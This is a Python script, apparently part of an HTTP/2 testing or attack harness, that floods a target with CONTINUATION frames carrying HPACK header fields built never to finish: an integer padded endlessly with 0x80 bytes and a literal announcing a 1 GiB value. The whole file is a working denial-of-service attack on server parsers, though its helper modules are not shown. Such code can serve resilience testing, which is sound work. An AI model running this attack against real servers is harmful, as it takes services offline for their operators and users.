"""Header fields that never become whole: an integer that is padded with 0x80, and a literal that announces
1 GiB, in CONTINUATION frames. Some parsers begin anew at every frame."""

import itertools

from flood import Flood
from harness import BUDGETS, MIB, run
from http2 import CONTINUATION, HEADERS, MAX_FRAME, frame, integer

FORMS = (
    b"\0\x7f" + b"\x80" * 64,  # the length of a name, zeros at its end
    b"\0\x01x" + integer(1 << 30, 7),  # the length of a value that will not come
)


def attack(target):
    forms = itertools.cycle(FORMS)

    def begin(connection):
        connection.form = next(forms)
        connection.stream = connection.next_stream()
        connection.send(frame(HEADERS, 0, connection.stream, connection.form))

    def part(connection):
        return frame(CONTINUATION, 0, connection.stream, b"\x80" * MAX_FRAME) * 16

    return Flood(target, 4, 24 * MIB, begin, part).outcome()


if __name__ == "__main__":
    run("HPACK integers", attack, flags=BUDGETS)
